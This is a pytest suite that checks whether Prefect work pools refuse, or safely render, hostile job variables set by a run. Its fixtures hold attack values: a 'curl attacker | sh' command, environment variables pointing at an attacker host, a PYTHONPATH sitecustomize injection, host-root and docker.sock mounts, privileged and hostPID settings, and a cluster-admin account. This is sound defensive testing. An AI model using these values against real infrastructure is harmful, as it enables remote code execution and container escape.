"""What a run of a deployment may set on the project's work pools (infra/work-pools/, docs/security.md).

A real `prefect server start` and a real `prefect worker start` on the process pool built from
infra/work-pools/process.json; a deployment of a probe flow that writes what its process sees (environment, argv,
sys.path, working directory). Each dangerous job variable (command, env with PYTHONPATH / MLFLOW_TRACKING_URI /
HF_ENDPOINT, working_dir, and every other variable Prefect's default template has) is tried through the API:

- where the server checks job variables (a flow run of a deployment, a deployment, a flow run's update) it refuses
  them (422, naming the variable);
- where it does not (`POST /flow_runs/` with the deployment's id and the pool's name), the run goes to the worker,
  which must still run the pool's command in the worker's environment: no marker file from the hostile command or
  from a `sitecustomize.py` on the hostile PYTHONPATH, the worker's own MLFLOW_TRACKING_URI, no HF_ENDPOINT;
- the variable a run may set (stream_output) takes effect.

The Docker and Kubernetes templates, with no Docker or cluster here: the same server refuses the hostile variables
for pools made from them, and the workers' own job configurations (prefect-docker, prefect-kubernetes) rendered
with those variables, as a worker renders a run's, keep the pool's image, command, environment, volumes, namespace.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from uuid import uuid4

import httpx
import pytest
from test_flow import BIN, base_env, prefect_server

REPO = Path(__file__).resolve().parent.parent
POOLS = REPO / "infra" / "work-pools"
RUN_S = 240  # a bound on waiting for one flow run on this slow machine, not a timing assertion
WORKER_TRACKING_URI = "sqlite:///the-workers-own-choice.db"  # the worker host's choice, which a run must not change
ATTACKER = "http://attacker.invalid"
WATCHED = ("PYTHONPATH", "MLFLOW_TRACKING_URI", "HF_ENDPOINT", "RLHF_INJECTED")

PROBE_FLOW = f'''
import json, os, sys
from pathlib import Path
from prefect import flow

@flow
def probe(out: str, token: str) -> None:
    print(token, flush=True)  # seen in the worker's output only when the run streams its output
    seen = {{"env": {{k: os.environ.get(k) for k in {WATCHED!r}}}, "argv": sys.argv, "sys_path": sys.path,
            "cwd": os.getcwd(), "stdout": os.readlink("/proc/self/fd/1")}}
    Path(out).write_text(json.dumps(seen))
'''


def _template(name: str) -> dict:
    return json.loads((POOLS / name).read_text())


@pytest.fixture(scope="module")
def prefect(tmp_path_factory):
    """The server, a process pool from process.json, the probe's deployment on it and a worker serving the pool."""
    from prefect import get_client
    from prefect.client.schemas.actions import WorkPoolCreate
    from prefect.settings import PREFECT_API_URL, temporary_settings

    home = tmp_path_factory.mktemp("wp-prefect")
    src = home / "src"
    src.mkdir()
    (src / "probe_flow.py").write_text(PROBE_FLOW)
    with prefect_server(home, "--no-scheduler") as url, temporary_settings(updates={PREFECT_API_URL: url}):
        with get_client(sync_client=True) as client:
            client.create_work_pool(WorkPoolCreate(name="rlhf-process", type="process",
                                                   base_job_template=_template("process.json")))
            flow_id = client.create_flow_from_name("probe")
            deployment_id = client.create_deployment(
                flow_id, "probe", entrypoint="probe_flow.py:probe", work_pool_name="rlhf-process",
                pull_steps=[{"prefect.deployments.steps.set_working_directory": {"directory": str(src)}}])
            with _worker(url, home, "rlhf-process") as log:
                yield {"url": url, "home": home, "client": client, "flow_id": flow_id,
                       "deployment_id": deployment_id, "worker_log": log}


@contextmanager
def _worker(url: str, home: Path, pool: str) -> Iterator[Path]:
    """`prefect worker start` on `pool`, in an environment the worker's host chose (its own tracking server);
    yields the worker's log."""
    log = home / "worker.log"
    env = base_env(PREFECT_API_URL=url, PREFECT_HOME=str(home / "worker-home"), PREFECT_WORKER_QUERY_SECONDS="1",
                   MLFLOW_TRACKING_URI=WORKER_TRACKING_URI)
    with log.open("w") as out:
        worker = subprocess.Popen([BIN / "prefect", "worker", "start", "--pool", pool, "--type", "process"],
                                  env=env, stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        yield log
    finally:  # the worker and any flow run it still runs (a hostile run, against a template that lets it through)
        os.killpg(worker.pid, signal.SIGTERM)
        try:  # a worker that polls the API waits out its loop before it exits (measured: 180 s and more under
            worker.wait(timeout=10)  # load); it keeps nothing a test needs
        except subprocess.TimeoutExpired:
            os.killpg(worker.pid, signal.SIGKILL)
            worker.wait()


def _hostile(tmp: Path) -> dict:
    """What an attacker sets: a command that leaves a marker (and still runs the engine, so the run reports what
    its environment was), an environment that runs code (`sitecustomize.py` on PYTHONPATH leaves a marker) and
    sends the worker's credentials elsewhere, a working directory of theirs; every variable Prefect's process
    template has, and a dot-delimited key (`env.X`, which the worker expands)."""
    evil = tmp / "evil"
    evil.mkdir(exist_ok=True)
    (evil / "sitecustomize.py").write_text(f"open({str(tmp / 'pythonpath.marker')!r}, 'w').close()\n")
    engine = f"{sys.executable} -m prefect.engine"
    return {
        "command": f"sh -c 'touch {tmp / 'command.marker'}; exec {engine}'",
        "env": {"PYTHONPATH": str(evil), "MLFLOW_TRACKING_URI": ATTACKER, "HF_ENDPOINT": ATTACKER},
        "env.RLHF_INJECTED": "yes",
        "working_dir": str(evil),
        "name": "hostile-{{ prefect.variables.anything }}",
        "labels": {"hostile": "yes"},
    }


def _flow_run_by_post(prefect: dict, out: Path, token: str, job_variables: dict):
    """A flow run of the deployment created through `POST /flow_runs/`, where the server does not check job
    variables (Prefect 3.8.8): what reaches the worker is only what the template lets through."""
    payload = {"flow_id": str(prefect["flow_id"]), "deployment_id": str(prefect["deployment_id"]),
               "work_pool_name": "rlhf-process", "parameters": {"out": str(out), "token": token},
               "job_variables": job_variables, "state": {"type": "SCHEDULED"}}
    response = httpx.post(f"{prefect['url']}/flow_runs/", json=payload, timeout=30)
    assert response.status_code == 201, response.text  # accepted: the worker is the only check left
    return prefect["client"].read_flow_run(response.json()["id"])


def _wait_completed(prefect: dict, flow_run_id):
    deadline = time.monotonic() + RUN_S
    while not (run := prefect["client"].read_flow_run(flow_run_id)).state.is_final():
        assert time.monotonic() < deadline, prefect["worker_log"].read_text()[-4000:]
        time.sleep(1)
    assert run.state.is_completed(), f"{run.state}\n{prefect['worker_log'].read_text()[-4000:]}"
    return run


def _refused(variable: str, call, *args, **kwargs) -> None:
    """`call(*args, **kwargs)`: the server answers 422 naming the variable."""
    from prefect.exceptions import PrefectHTTPStatusError

    with pytest.raises(PrefectHTTPStatusError) as refused:
        call(*args, **kwargs)
    assert refused.value.response.status_code == 422, refused.value.response.text
    assert variable.split(".")[0] in refused.value.response.text, refused.value.response.text


def test_the_server_refuses_every_variable_but_the_pools_own(prefect, tmp_path):
    from prefect.states import Scheduled

    client, deployment_id = prefect["client"], prefect["deployment_id"]
    parameters = {"out": str(tmp_path / "never.json"), "token": "never"}
    later = client.create_flow_run_from_deployment(  # a run the worker does not take yet: its update is tried
        deployment_id, parameters=parameters, state=Scheduled(scheduled_time=_in_an_hour()))
    try:
        for name, value in _hostile(tmp_path).items():
            one = {name: value}
            _refused(name, client.create_flow_run_from_deployment, deployment_id, parameters=parameters,
                     job_variables=one)
            _refused(name, client.create_deployment, prefect["flow_id"], f"hostile-{uuid4().hex[:8]}",
                     entrypoint="probe_flow.py:probe", work_pool_name="rlhf-process", job_variables=one)
            _refused(name, client.update_flow_run, later.id, job_variables=one)
    finally:
        client.delete_flow_run(later.id)
    assert not list(tmp_path.glob("*.marker")) and not (tmp_path / "never.json").exists()


def _in_an_hour():
    from datetime import datetime, timedelta, timezone

    return datetime.now(timezone.utc) + timedelta(hours=1)


def test_the_worker_runs_the_pools_command_in_its_own_environment_and_streams_as_the_run_chose(prefect, tmp_path):
    """Two runs at once: one through `POST /flow_runs/` with every hostile variable (streams its output, the
    default), one through the deployment with the one variable a run may set, stream_output false."""
    client = prefect["client"]
    hostile = _flow_run_by_post(prefect, tmp_path / "hostile.json", "token-of-the-hostile-run", _hostile(tmp_path))
    quiet = client.create_flow_run_from_deployment(
        prefect["deployment_id"], parameters={"out": str(tmp_path / "quiet.json"), "token": "token-of-the-quiet-run"},
        job_variables={"stream_output": False})
    _wait_completed(prefect, hostile.id)
    _wait_completed(prefect, quiet.id)

    assert not (tmp_path / "command.marker").exists(), "the run's command ran on the worker"
    assert not (tmp_path / "pythonpath.marker").exists(), "the run's PYTHONPATH ran its code on the worker"
    seen = json.loads((tmp_path / "hostile.json").read_text())
    env, evil = seen["env"], str(tmp_path / "evil")
    assert evil not in (env["PYTHONPATH"] or ""), env  # Prefect puts the pulled code's folder there, nothing else
    assert (env["MLFLOW_TRACKING_URI"], env["HF_ENDPOINT"], env["RLHF_INJECTED"]) == (WORKER_TRACKING_URI, None, None)
    assert not any(p.startswith(evil) for p in seen["sys_path"]), seen["sys_path"]  # not started in it
    assert seen["cwd"] == str(prefect["home"] / "src")  # the deployment's pull step
    assert seen["argv"][0].endswith(os.path.join("prefect", "engine.py")), seen["argv"]  # the worker's engine command

    # stream_output: the default run writes into a pipe the worker copies to its own output, the quiet one into
    # /dev/null (Prefect's run_process)
    assert seen["stdout"].startswith("pipe:"), seen["stdout"]
    assert json.loads((tmp_path / "quiet.json").read_text())["stdout"] == "/dev/null"
    worker_output = _wait_for_text(prefect["worker_log"], "token-of-the-hostile-run")
    assert "token-of-the-quiet-run" not in worker_output


def _wait_for_text(log: Path, text: str) -> str:
    deadline = time.monotonic() + RUN_S
    while text not in (content := log.read_text()):
        assert time.monotonic() < deadline, content[-4000:]
        time.sleep(0.5)
    return content


# ----------------------------------------------------------------------------------- Docker and Kubernetes pools

DOCKER_HOSTILE = {
    "image": "attacker/image:latest", "image_pull_policy": "Always", "command": "sh -c 'curl attacker | sh'",
    "env": {"PYTHONPATH": "/evil", "MLFLOW_TRACKING_URI": ATTACKER}, "env.HF_ENDPOINT": ATTACKER,
    "volumes": ["/:/host", "/var/run/docker.sock:/var/run/docker.sock"], "privileged": True,
    "network_mode": "host", "networks": ["attacker-net"], "auto_remove": True, "mem_limit": "1t",
    "memswap_limit": "1t", "labels": {"hostile": "yes"}, "name": "hostile",
    "registry_credentials": {"$ref": {"block_document_id": str(uuid4())}},
    "container_create_kwargs": {"cap_add": ["SYS_ADMIN"], "pid_mode": "host", "volumes": ["/:/host"]},
}
K8S_HOSTILE = {
    "image": "attacker/image:latest", "image_pull_policy": "Always", "command": "sh -c 'curl attacker | sh'",
    "env": {"PYTHONPATH": "/evil", "MLFLOW_TRACKING_URI": ATTACKER}, "env.HF_ENDPOINT": ATTACKER,
    "namespace": "kube-system", "service_account_name": "cluster-admin", "labels": {"hostile": "yes"},
    "annotations": {"hostile": "yes"}, "name": "hostile", "backoff_limit": 99, "finished_job_ttl": 1,
    "job_watch_timeout_seconds": 1, "pod_watch_timeout_seconds": 1, "cpu_limit": "1000", "memory_limit": "10Ti",
    "cluster_config": {"$ref": {"block_document_id": str(uuid4())}},
    "job_manifest": {"spec": {"template": {"spec": {"hostPID": True}}}},
}
# what a run may set, and a value of each that is well formed
DOCKER_ALLOWED = {"gpu_count": 2, "shm_size": "32g", "stream_output": False}
K8S_ALLOWED = {"gpu_count": 4, "shm_size": "32Gi", "cpu_request": "16", "memory_request": "100Gi", "stream_output": False}


def test_the_hostile_lists_cover_every_variable_of_prefects_templates(tmp_path):
    """A variable a new prefect-docker or prefect-kubernetes adds is tried too, or allowed on purpose."""
    pytest.importorskip("prefect_docker", reason="the server extra (make test-server installs it)")
    pytest.importorskip("prefect_kubernetes", reason="the server extra")
    from prefect.workers.process import ProcessWorker
    from prefect_docker.worker import DockerWorker
    from prefect_kubernetes.worker import KubernetesWorker

    for worker, tried, allowed in ((ProcessWorker, _hostile(tmp_path), {"stream_output": False}),
                                   (DockerWorker, DOCKER_HOSTILE, DOCKER_ALLOWED),
                                   (KubernetesWorker, K8S_HOSTILE, K8S_ALLOWED)):
        variables = set(worker.get_default_base_job_template()["variables"]["properties"])
        assert variables <= set(tried) | set(allowed), (worker.type, variables - set(tried) - set(allowed))


@pytest.mark.parametrize(("kind", "template", "hostile", "allowed"), [
    ("docker", "docker-gpu.json", DOCKER_HOSTILE, DOCKER_ALLOWED),
    ("kubernetes", "kubernetes-gpu.json", K8S_HOSTILE, K8S_ALLOWED)])
def test_the_server_refuses_hostile_variables_on_docker_and_kubernetes_pools(prefect, kind, template, hostile,
                                                                             allowed):
    from prefect.client.schemas.actions import WorkPoolCreate

    client = prefect["client"]
    pool = f"rlhf-{kind}"
    client.create_work_pool(WorkPoolCreate(name=pool, type=kind, base_job_template=_template(template)),
                            overwrite=True)

    def deploy(job_variables: dict):
        return client.create_deployment(prefect["flow_id"], f"{kind}-{uuid4().hex[:8]}", entrypoint="probe_flow.py:probe",
                                        work_pool_name=pool, job_variables=job_variables)

    for name, value in hostile.items():
        _refused(name, deploy, {name: value})
    # the allowed ones with a template in place of a size, or the wrong type
    _refused("shm_size", deploy, {"shm_size": "{{ prefect.blocks.secret.credentials }}"})
    _refused("gpu_count", deploy, {"gpu_count": "all"})
    deployment = client.read_deployment(deploy(allowed))
    assert deployment.job_variables == allowed


def _render(configuration_class, template: dict, values: dict, url: str):
    """What a worker makes of a run's job variables: the pool's template filled in, then prepared for the run."""
    from uuid import UUID

    from prefect.client.schemas.objects import FlowRun
    from prefect.settings import PREFECT_API_URL, temporary_settings

    # block and variable references resolve on the test's server, and so does whatever preparing the run asks of
    # an API (outside it, Prefect would start its own temporary server: minutes on a loaded machine)
    with temporary_settings(updates={PREFECT_API_URL: url}):
        config = asyncio.run(configuration_class.from_template_and_values(template, values))
        config.prepare_for_flow_run(FlowRun(id=UUID(int=1), flow_id=UUID(int=2), name="a-run"))
    return config


def _without_block_references(values: dict) -> dict:
    return {k: v for k, v in values.items() if not (isinstance(v, dict) and "$ref" in v)}


def _same_with_block_references(configuration_class, template: dict, hostile: dict, url: str, config) -> None:
    """A block a run names (registry credentials, cluster config: ids of no block here) is never looked up: the
    worker renders the same job, where a template with those variables fails on the unknown block."""
    with_references = _render(configuration_class, template, hostile, url)
    assert with_references.model_dump(mode="json") == config.model_dump(mode="json")


def test_a_docker_run_gets_the_pools_image_command_environment_and_mounts(prefect):
    pytest.importorskip("prefect_docker", reason="the server extra (make test-server installs it)")
    from prefect_docker.worker import DockerWorkerJobConfiguration

    template = _template("docker-gpu.json")
    fixed = template["job_configuration"]
    config = _render(DockerWorkerJobConfiguration, template, _without_block_references(DOCKER_HOSTILE), prefect["url"])
    assert config.image == fixed["image"] and config.image_pull_policy == "IfNotPresent"
    assert config.command == "prefect flow-run execute"  # Prefect's own
    assert not set(config.env) & {"PYTHONPATH", "MLFLOW_TRACKING_URI", "HF_ENDPOINT"}, config.env
    assert (config.volumes, config.networks, config.network_mode, config.privileged) == ([], [], None, False)
    assert (config.registry_credentials, config.mem_limit, config.memswap_limit) == (None, None, None)
    assert "hostile" not in config.labels and config.name == "a-run"
    assert config.container_create_kwargs == {
        "device_requests": [{"driver": "nvidia", "count": -1, "capabilities": [["gpu"]]}], "shm_size": "16g"}
    _same_with_block_references(DockerWorkerJobConfiguration, template, DOCKER_HOSTILE, prefect["url"], config)

    chosen = _render(DockerWorkerJobConfiguration, template, DOCKER_ALLOWED, prefect["url"])
    assert chosen.container_create_kwargs["device_requests"][0]["count"] == 2
    assert chosen.container_create_kwargs["shm_size"] == "32g" and chosen.stream_output is False


def test_a_kubernetes_run_gets_the_pools_image_command_environment_namespace_and_volumes(prefect):
    pytest.importorskip("prefect_kubernetes", reason="the server extra (make test-server installs it)")
    from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

    template = _template("kubernetes-gpu.json")
    fixed = template["job_configuration"]
    fixed_container = fixed["job_manifest"]["spec"]["template"]["spec"]["containers"][0]
    config = _render(KubernetesWorkerJobConfiguration, template, _without_block_references(K8S_HOSTILE), prefect["url"])
    job = config.job_manifest
    pod = job["spec"]["template"]["spec"]
    [container] = pod["containers"]
    assert container["image"] == fixed_container["image"] and container["imagePullPolicy"] == "IfNotPresent"
    assert container["args"] == ["prefect", "flow-run", "execute"] and "command" not in container
    env = {e["name"]: e.get("value") for e in container["env"]}
    assert not set(env) & {"PYTHONPATH", "MLFLOW_TRACKING_URI", "HF_ENDPOINT"}, env
    assert env["PREFECT_FLOWS_HEARTBEAT_FREQUENCY"] == "30"
    assert config.namespace == job["metadata"]["namespace"] == fixed["namespace"]
    assert config.cluster_config is None and "serviceAccountName" not in pod and "hostPID" not in pod
    assert pod["volumes"] == [{"name": "dshm", "emptyDir": {"medium": "Memory", "sizeLimit": "16Gi"}}]
    assert container["volumeMounts"] == [{"name": "dshm", "mountPath": "/dev/shm"}]
    assert container["resources"] == {"limits": {"nvidia.com/gpu": 1}, "requests": {}}
    assert job["spec"]["backoffLimit"] == 0 and "ttlSecondsAfterFinished" not in job["spec"]
    assert "hostile" not in job["metadata"]["labels"] and "hostile" not in job["metadata"].get("annotations", {})
    _same_with_block_references(KubernetesWorkerJobConfiguration, template, K8S_HOSTILE, prefect["url"], config)

    chosen = _render(KubernetesWorkerJobConfiguration, template, K8S_ALLOWED, prefect["url"])
    chosen_pod = chosen.job_manifest["spec"]["template"]["spec"]
    assert chosen_pod["containers"][0]["resources"] == {"limits": {"nvidia.com/gpu": 4},
                                                        "requests": {"cpu": "16", "memory": "100Gi"}}
    assert chosen_pod["volumes"][0]["emptyDir"]["sizeLimit"] == "32Gi" and chosen.stream_output is False
